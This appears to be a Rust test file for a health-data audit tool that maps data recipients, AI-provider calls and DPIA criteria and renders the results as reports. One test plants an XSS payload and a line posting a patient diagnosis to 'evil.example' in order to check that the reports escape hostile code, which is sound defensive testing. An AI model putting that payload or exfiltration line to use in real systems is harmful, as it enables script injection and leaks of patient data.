//! The audit model of the demo, the three renderings, escaping of hostile code, determinism.

use healthflow::audit::{self, AuditFormat};
use healthflow::scan::{Engine, ScanOptions};
use std::path::Path;

fn model_of(path: &Path) -> audit::AuditModel {
    let engine = Engine::new().expect("engine");
    audit::audit(&engine, path, &ScanOptions::default(), None, "test").expect("audit")
}

fn demo() -> audit::AuditModel {
    model_of(&Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"))
}

#[test]
fn demo_recipients_and_transfers() {
    let m = demo();
    let names: Vec<(&str, &str, bool)> = m
        .recipients
        .iter()
        .map(|r| (r.name.as_str(), r.location.label(), r.cleartext))
        .collect();
    assert_eq!(
        names,
        vec![
            ("OpenAI", "outside EU/EEA", false),
            ("PostHog (EU)", "EU/EEA", false),
            ("hub.resultats-region.example", "location unknown", false),
            ("sms.passerelle-exemple.fr", "location unknown", true),
            ("Application logs", "local", false),
            ("Local files", "local", false),
        ]
    );
    let sms = &m.recipients[3];
    assert_eq!(sms.cleartext_how.as_deref(), Some("http://"));
    assert_eq!(sms.modules, vec!["app/notify.py"]);
    let logs = &m.recipients[4];
    assert_eq!(logs.modules, vec!["app/audit_log.py", "worker/src/main.rs"]);
    assert!(logs.direct_identifier);
}

#[test]
fn demo_ai_register_and_dpia() {
    let m = demo();
    assert_eq!(m.ai_register.len(), 1);
    let a = &m.ai_register[0];
    assert_eq!(a.provider.as_deref(), Some("OpenAI"));
    assert_eq!(a.model.as_deref(), Some("gpt-4o-mini"));
    assert_eq!(a.endpoint.as_deref(), Some("api.openai.com"));
    assert!(a.health_data);
    // A medical secretary's summary: no patient-facing wording, no intended-purpose markers.
    assert!(a.patient_facing.is_empty() && a.intended_purpose.is_empty() && a.triage.is_empty());
    assert!(a.notes.iter().all(|n| !n.contains("Annex III")));
    assert!(a
        .notes
        .iter()
        .any(|n| n.contains("verify DPF certification")));

    assert!(m.dpia.required);
    assert!(m.dpia.recommendation.starts_with("A DPIA is required"));
    assert!(m.dpia.recommendation.contains("not legal advice"));
    let met: Vec<&str> = m
        .dpia
        .criteria
        .iter()
        .filter(|c| c.evidenced)
        .map(|c| c.id.as_str())
        .collect();
    assert_eq!(
        met,
        vec![
            "sensitive-data",
            "vulnerable-data-subjects",
            "innovative-technology",
            "large-scale",
            "evaluation-scoring",
            "transfers"
        ]
    );
    // Five EDPB criteria; the transfers item is listed but not counted.
    assert!(
        m.dpia
            .recommendation
            .contains("(5 of the EDPB criteria above are evidenced)"),
        "{}",
        m.dpia.recommendation
    );
    // Every evidence link points at a finding of the report.
    for c in &m.dpia.criteria {
        for e in &c.evidence {
            assert!(m.findings.iter().any(|f| &f.id == e), "{e}");
        }
    }
}

#[test]
fn demo_data_map_and_dependencies() {
    let m = demo();
    assert_eq!(
        m.data_map.categories,
        vec![
            "allergy",
            "care-record",
            "diagnosis",
            "identifier",
            "lab-result",
            "medication"
        ]
    );
    assert!(m.data_map.modules.iter().any(|x| x.path == "app/models.py"));
    assert!(m
        .data_map
        .flows
        .iter()
        .any(|f| f.module == "app/notify.py" && f.cleartext));
    let deps: Vec<(&str, bool)> = m
        .dependencies
        .iter()
        .map(|d| (d.package.as_str(), d.used))
        .collect();
    assert_eq!(
        deps,
        vec![("openai", true), ("posthog", true), ("sentry-sdk", true)]
    );
    assert_eq!(m.summary.languages.get("python"), Some(&10));
    assert_eq!(m.summary.languages.get("rust"), Some(&1));
}

#[test]
fn renderings_are_deterministic() {
    let a = demo();
    let b = demo();
    for f in [AuditFormat::Html, AuditFormat::Markdown, AuditFormat::Json] {
        assert_eq!(
            audit::render(&a, f).expect("render"),
            audit::render(&b, f).expect("render")
        );
    }
}

#[test]
fn hostile_code_is_escaped() {
    let dir = tempfile::tempdir().expect("tempdir");
    let hostile = "</script><img src=x onerror=alert(1)>";
    let src = format!(
        "import logging\nimport requests\nlogger = logging.getLogger()\n\ndef f(patient):\n    logger.info(\"{hostile}\", patient.diagnosis)\n    requests.post(\"http://evil.example/<b>x</b>\", json=patient.diagnosis)\n"
    );
    std::fs::create_dir_all(dir.path().join("a<b>")).expect("mkdir");
    std::fs::write(dir.path().join("a<b>/app.py"), src).expect("write");
    std::fs::write(
        dir.path().join("requirements.txt"),
        "mixpanel<b>==1\nopenai\n",
    )
    .expect("write");
    let m = model_of(dir.path());
    assert!(m
        .findings
        .iter()
        .any(|f| f.frame.iter().any(|l| l.text.contains(hostile))));
    let html = audit::render(&m, AuditFormat::Html).expect("html");
    assert!(!html.contains("<img"), "unescaped markup in the HTML");
    assert!(!html.contains("<b>"), "unescaped path in the HTML");
    assert!(html.contains("&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"));
    let md = audit::render(&m, AuditFormat::Markdown).expect("markdown");
    let outside_fences: String = md
        .split("```")
        .enumerate()
        .filter(|(i, _)| i % 2 == 0)
        .map(|(_, s)| s)
        .collect();
    assert!(!outside_fences.contains("<img") && !outside_fences.contains("<b>"));
    // The declared-but-unused SDK is listed.
    assert!(m
        .dependencies
        .iter()
        .any(|d| d.package == "openai" && !d.used));
}

#[test]
fn cli_picks_the_format_from_the_extension() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("r.json");
    let st = std::process::Command::new(env!("CARGO_BIN_EXE_healthflow"))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .args(["audit", "fixtures/demo", "-q", "-o"])
        .arg(&out)
        .status()
        .expect("run");
    assert!(st.success());
    let v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&out).expect("read")).expect("json");
    assert_eq!(v["schema_version"], 1);
    assert_eq!(v["target"]["path"], "fixtures/demo");
    let bad = std::process::Command::new(env!("CARGO_BIN_EXE_healthflow"))
        .args(["audit", "fixtures/demo", "-o"])
        .arg(dir.path().join("r.py"))
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("run");
    assert_eq!(bad.status.code(), Some(2));
}

fn copy_tree(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).expect("mkdir");
    for e in std::fs::read_dir(from).expect("read_dir") {
        let e = e.expect("entry");
        let dest = to.join(e.file_name());
        if e.file_type().expect("type").is_dir() {
            copy_tree(&e.path(), &dest);
        } else {
            std::fs::copy(e.path(), &dest).expect("copy");
        }
    }
}

#[test]
fn audit_applies_the_projects_hosts_and_is_titled_by_its_name() {
    let dir = tempfile::tempdir().expect("tempdir");
    let project = dir.path().join("clinic");
    copy_tree(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"),
        &project,
    );
    std::fs::write(
        project.join("healthflow.toml"),
        "internal-domains = [\"hub.resultats-region.example\"]\n\
         eu-endpoints = [\"sms.passerelle-exemple.fr\"]\n",
    )
    .expect("write");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_healthflow"))
        .current_dir(&project)
        .args(["audit", ".", "-q", "--format", "json"])
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["target"]["name"], "clinic");
    let recipients = v["recipients"].as_array().expect("recipients");
    let find = |host: &str| {
        recipients
            .iter()
            .find(|r| r["name"] == host || r["endpoint"] == host)
    };
    assert!(
        find("hub.resultats-region.example").is_none(),
        "an internal host is no third party: {recipients:?}"
    );
    let sms = find("sms.passerelle-exemple.fr").expect("sms gateway");
    assert_eq!(sms["location"], "eu", "{sms}");
    let md = std::process::Command::new(env!("CARGO_BIN_EXE_healthflow"))
        .current_dir(&project)
        .args(["audit", ".", "-q", "--format", "md"])
        .output()
        .expect("run");
    assert!(String::from_utf8_lossy(&md.stdout).starts_with("# Health-data audit: clinic\n"));
}

#[test]
fn html_messages_render_code_spans() {
    let html = audit::render(&demo(), AuditFormat::Html).expect("html");
    let body = html
        .split("<section id=\"findings\"")
        .nth(1)
        .and_then(|s| s.split("<section id=\"dependencies\"").next())
        .expect("findings section");
    assert!(body.contains("<code>"), "no code span in the findings");
    assert!(!body.contains('`'), "a literal backtick in the findings");
}

#[test]
fn html_ai_register_prints_each_note_once() {
    let mut m = demo();
    // A second call site with the same notes, as in a code base calling a model twice.
    let mut second = m.ai_register.first().expect("an AI call site").clone();
    second.line += 1;
    m.ai_register.push(second);
    let html = audit::render(&m, AuditFormat::Html).expect("html");
    let mut distinct: Vec<&String> = m.ai_register.iter().flat_map(|a| &a.notes).collect();
    let total = distinct.len();
    distinct.sort();
    distinct.dedup();
    assert!(distinct.len() < total, "the demo's rows share notes");
    assert_eq!(html.matches("<li id=\"ai-note-").count(), distinct.len());
    let register = html
        .split("<section id=\"ai-register\"")
        .nth(1)
        .and_then(|s| s.split("</section>").next())
        .expect("register");
    assert!(!register.contains("<ul>"), "notes are not repeated per row");
    assert!(register.contains("href=\"#ai-note-1\""));
}

/// The data map shows model names in full (wrapped, never cut) and draws no text on links.
#[test]
fn data_map_keeps_full_model_names_and_no_labels_on_links() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(
        dir.path().join("a.py"),
        "import anthropic\nimport requests\n\nclient = anthropic.Anthropic()\n\ndef ask(patient):\n    \
         client.messages.create(model=\"claude-3-5-sonnet-20241022\", max_tokens=10, messages=[{\"role\": \"user\", \"content\": patient.diagnosis}])\n    \
         client.messages.create(model=\"claude-3-7-sonnet-latest-extended-thinking\", max_tokens=10, messages=[{\"role\": \"user\", \"content\": patient.diagnosis}])\n    \
         requests.post(\"http://sms.example.org/send\", json={\"dx\": patient.diagnosis})\n",
    )
    .expect("write");
    let html = audit::render(&model_of(dir.path()), AuditFormat::Html).expect("html");
    let svg = &html[html.find("<svg").expect("svg")..html.find("</svg>").expect("svg end")];
    for model in [
        "claude-3-5-sonnet-20241022",
        "claude-3-7-sonnet-latest-extended-thinking",
    ] {
        assert!(svg.contains(model), "{model} in full");
    }
    assert!(!svg.contains('\u{2026}'), "nothing is cut");
    assert!(svg.contains("unencrypted: http://</text>"));
    assert!(svg.contains("edge to-recipient cleartext"));
    // Every text is a column head, inside a node, or in the legend.
    let mut depth = 0i32;
    let mut rest = svg;
    while let Some(i) = rest.find('<') {
        rest = &rest[i..];
        if rest.starts_with("<g ") {
            depth += 1;
        } else if rest.starts_with("</g>") {
            depth -= 1;
        } else if rest.starts_with("<text") && depth == 0 {
            assert!(
                rest.starts_with("<text class=\"head\""),
                "text on the map: {}",
                &rest[..rest.len().min(80)]
            );
        }
        rest = &rest[1..];
    }
}
